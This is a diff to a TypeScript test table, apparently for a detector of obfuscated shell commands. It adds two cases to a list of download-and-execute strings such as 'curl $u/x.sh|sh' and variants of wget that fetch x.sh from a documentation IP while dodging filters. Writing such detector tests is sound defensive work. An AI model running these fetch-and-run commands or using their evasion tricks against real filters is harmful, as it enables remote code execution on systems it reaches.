@@ -88,6 +88,8 @@ const forms: [name: string, text: string, ...wanted: string[]][] = [
   ['variables', 'u=http://198.51.100.7; curl $u/x.sh|sh', url],
   ['cut words', 'wg\'\'et h""ttp://198.51.100.7/x.sh', url],
   ['${IFS}', 'wget${IFS}198.51.100.7/x.sh', url],
+  ['slashes kept apart', 'wget http:/\\/198.51.100.7/x.sh', url],
+  ['one slash', 'wget http:/198.51.100.7/x.sh; sh x.sh', url],
   ['an address as a number', 'wget http://3325256711/x.sh', url],
   ['wraps in wraps', nest(fetch, 4), url],
   [
